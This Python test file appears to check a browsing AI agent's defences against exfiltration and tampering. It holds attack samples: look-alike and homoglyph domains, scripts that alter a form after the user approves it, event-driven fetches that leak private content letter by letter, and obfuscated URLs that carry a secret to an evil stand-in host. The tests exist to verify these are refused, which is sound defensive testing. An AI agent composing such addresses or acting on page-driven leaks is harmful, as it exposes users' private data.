"""What the person agreed to is what happens: sites, addresses, private content, changes behind their back."""

# A page of an attack stands in one line, where it fits.
# ruff: noqa: E501

import asyncio

import pytest

from tests.services.browser.attacks.arena import PRIVATE, UNTRUSTED, Arena, Refused
from tests.services.browser.attacks.internet import EVIL, SHOP, Answer, Seen, Special, Stream

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

_FORM = (
    "<form method=post action=/send><label>E-mail <input name=mail></label>"
    "<input type=hidden name=sum value=10><button>Send</button></form>"
)
#: Names that look like the site at which the page is, or like the one that the person knows.
LOOK_ALIKES = (
    f"{SHOP}.{EVIL}",
    f"{SHOP}:8080",
    f"{SHOP}@{EVIL}",
    f"{EVIL}#{SHOP}",
    f"{EVIL}/{SHOP}",
    f"{EVIL}\\.{SHOP}",
    f"{EVIL}?{SHOP}",
    "ѕhop.example",  # noqa: RUF001 - the first letter is Cyrillic
    "shop。example.org",
    "xn--hop-nmc.example",
    "www.www.shop.example",
    "shop.examp1e",
    "example",
    "",
)


@pytest.mark.parametrize("site", LOOK_ALIKES)
async def test_a_site_that_looks_alike_gets_nothing(arena: Arena, site: str) -> None:
    arena.show(_FORM)
    guest = arena.guest()
    await guest.open()
    filled = await guest.call("fill", site=site, fields={"E-mail": "zanzibar"})
    sent = await guest.call("submit", site=site, target="Send")
    visited = await guest.call("visit", site=site, path="/?q=zanzibar")

    assert isinstance(filled, Refused)
    assert isinstance(sent, Refused)
    assert isinstance(visited, Refused)
    assert not arena.shop.learned("zanzibar")
    assert not arena.evil.learned("zanzibar")


@pytest.mark.parametrize("site", [SHOP, SHOP.upper(), f"www.{SHOP}", f"http://{SHOP}"])
async def test_the_site_itself_gets_it(arena: Arena, site: str) -> None:
    arena.show(_FORM)
    guest = arena.guest()
    await guest.open()
    await guest.call("fill", site=site, fields={"E-mail": "zanzibar"})
    await guest.call("submit", site=site, target="Send")

    assert arena.shop.learned("mail=zanzibar")


#: What a page changes between the question and the click.
CHANGES = {
    "a hidden value": "document.forms[0].sum.value = '10000'",
    "the value that was typed": "document.forms[0].mail.value = 'mallory@evil.example'",
    "the place": "document.forms[0].action = '/other'",
    "a further field": "document.forms[0].insertAdjacentHTML('beforeend', '<input name=more value=x type=hidden>')",
    "a long value": "document.forms[0].sum.value = '1'.repeat(300)",
}


def _held() -> tuple[Special, asyncio.Event]:
    """An answer that comes when the event is set."""
    is_time = asyncio.Event()

    async def answer(_: Seen, stream: Stream) -> None:
        await is_time.wait()
        stream.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await stream.drain()

    return answer, is_time


@pytest.mark.parametrize("name", CHANGES)
async def test_a_form_that_changes_after_the_question_is_not_sent(arena: Arena, name: str) -> None:
    for script, is_sent in ((CHANGES[name], False), ("", True)):
        arena.show(
            f"{_FORM}<script>fetch('/go').then(() => {{ {script}; document.body.append('changed') }})</script>"
        )
        arena.shop.pages["/go"], is_time = _held()
        arena.shop.seen.clear()
        guest = arena.guest()
        await guest.open()
        await guest.call("fill", site=SHOP, fields={"E-mail": "anna@mail.example"})
        asked = await guest.preview(site=SHOP, target="Send")
        assert "anna@mail.example" in asked, asked
        is_time.set()
        assert "changed" in await guest.call("read", wait_for="changed")
        said = await guest.call("submit", site=SHOP, target="Send")

        assert isinstance(said, Refused) is not is_sent, said
        assert arena.shop.learned("anna@mail.example") is is_sent
        assert not arena.shop.learned("mallory")


_LETTERS = "".join(f"<a href='/letter/{each}'>{each}</a> " for each in "abcxyz") + (
    "<button onclick=\"fetch('/letter/button')\">press</button><div style='height:9000px'></div>"
    "<p>end</p><script>onscroll = () => fetch('/letter/scroll'); onkeydown = () => fetch('/letter/key');"
    "onbeforeprint = () => fetch('/letter/print')</script>"
)
#: Calls by which a page could be told what was read elsewhere, one letter at a time.
LETTERS: dict[str, tuple[str, dict[str, object]]] = {
    "a link": ("click", {"target": "x"}),
    "a button": ("click", {"target": "press"}),
    "a key": ("press", {"key": "ArrowDown"}),
    "scrolling": ("scroll", {"direction": "down"}),
    "the address of a link": ("navigate", {"url": f"http://{SHOP}/letter/x"}),
    "a download": ("download", {"target": "x"}),
    "the way back": ("back", {}),
    "a print": ("pdf", {}),
}


@pytest.mark.parametrize("name", LETTERS)
async def test_private_content_does_not_leak_letter_by_letter(arena: Arena, name: str) -> None:
    tool, arguments = LETTERS[name]
    for label, words, leaks in ((PRIVATE, "How are my notes?", False), (UNTRUSTED, "", True)):
        arena.show(
            "<p>before</p><script>onpageshow = () => fetch('/letter/shown?' + Math.random())</script>",
            "/letter/before",
        )
        arena.show(_LETTERS)
        guest = arena.guest()
        await guest.open(f"http://{SHOP}/letter/before")
        await guest.open()
        arena.shop.seen.clear()
        guest.label, guest.words = label, words
        said = await guest.call(tool, **arguments)
        await asyncio.sleep(0.3)

        told = any(each.path.startswith("/letter") for each in arena.shop.seen)
        assert told is leaks, (said, [each.path for each in arena.shop.seen])


async def test_with_private_content_only_a_named_address_is_opened(arena: Arena) -> None:
    arena.show("<a href='/leak'>more</a>")
    arena.show("<p>leaked</p>", "/leak")
    guest = arena.guest(PRIVATE, f"Compare my notes with http://{SHOP}/ please")
    assert not isinstance(await guest.open(), Refused)
    for url in (f"http://{SHOP}/leak", f"http://{EVIL}/", f"http://{SHOP}/?q=notes", f"http://notes.{EVIL}/"):
        assert isinstance(await guest.open(url), Refused), url
    assert isinstance(await guest.call("click", target="more"), Refused)
    assert not arena.shop.got("/leak")
    assert not arena.evil.seen


#: Addresses that a text could have composed; the person did not name them and no page links to them.
COMPOSED = (
    f"http://{EVIL}/?q=zanzibar",
    f"http://{EVIL}/zanzibar",
    f"http://{EVIL}/#zanzibar",
    f"http://{EVIL}\\zanzibar",
    f"http://{EVIL}\\?zanzibar",
    f"http:\\\\{EVIL}/zanzibar",
    f"http:/{EVIL}/zanzibar",
    f"http:///{EVIL}/zanzibar",
    f"{EVIL}\\zanzibar",
    f"http://zanzibar@{EVIL}/",
    f"http://zanzibar:x@{EVIL}/",
    f"http://{EVIL}/;zanzibar",
    f"http://{EVIL}/%2e%2e/zanzibar",
    f"http://{EVIL}/..;/zanzibar",
    f"ht\ttp://{EVIL}/zanzibar",
    f"http://{EVIL}/\nzanzibar",
)


@pytest.mark.parametrize("url", COMPOSED)
async def test_text_from_elsewhere_composes_no_address(arena: Arena, url: str) -> None:
    arena.show("<p>home</p>", site=arena.evil)
    arena.evil.pages["/zanzibar"] = Answer("leaked")
    guest = arena.guest(UNTRUSTED)
    assert isinstance(await guest.open(url), Refused)
    assert not arena.evil.learned("zanzibar")

    assert "home" in await guest.open(f"http://{EVIL}/")
    arena.show(f"<a href='http://{EVIL}/zanzibar'>linked</a>")
    await guest.open()
    assert "leaked" in await guest.open(f"http://{EVIL}/zanzibar")


async def test_every_result_is_untrusted_and_names_its_host(arena: Arena) -> None:
    arena.show("<a href=/two>two</a><p>Zanzibar</p><button>b</button><div style='height:5000px'>")
    arena.show("<p>second</p>", "/two")
    arena.shop.pages["/file"] = Answer(b"\0\1", "application/octet-stream")
    guest = arena.guest()
    await guest.open()
    for tool, arguments in (
        ("read", {}),
        ("find", {"text": "Zanzibar"}),
        ("find", {"text": "nothing like it"}),
        ("scroll", {"direction": "down"}),
        ("click", {"target": "b"}),
        ("press", {"key": "Escape"}),
        ("click", {"target": "two"}),
        ("back", {}),
        ("tab", {"tab": "t1"}),
        ("visit", {"site": f"http://{SHOP}", "path": "/two"}),
        ("screenshot", {}),
        ("pdf", {}),
        ("navigate", {"url": f"http://{SHOP}/file"}),
        ("download", {}),
    ):
        said = await guest.call(tool, **arguments)
        assert not isinstance(said, Refused), (tool, said)

    assert len(guest.results) == 15
    for result in guest.results:
        assert result.label.untrusted
        assert f"the page {SHOP}" in result.label.sources


@pytest.mark.parametrize("tool", ["click", "download"])
async def test_what_was_typed_is_sent_by_no_call_that_asks_nobody(arena: Arena, tool: str) -> None:
    arena.show(
        "<form action=/hit><label>E-mail <input name=mail></label><button>Send</button></form>"
        "<a href='#' onclick=\"fetch('/hit?mail=' + document.forms[0].mail.value)\">Link</a>"
    )
    guest = arena.guest()
    await guest.open()
    await guest.call("fill", site=SHOP, fields={"E-mail": "zanzibar"})
    for target in ("Send", "Link"):
        assert isinstance(await guest.call(tool, target=target), Refused)
    assert isinstance(await guest.call("press", key="Enter"), Refused)
    assert not arena.shop.learned("zanzibar")
    assert not isinstance(await guest.call("submit", site=SHOP, target="Send"), Refused)
    assert arena.shop.learned("zanzibar")
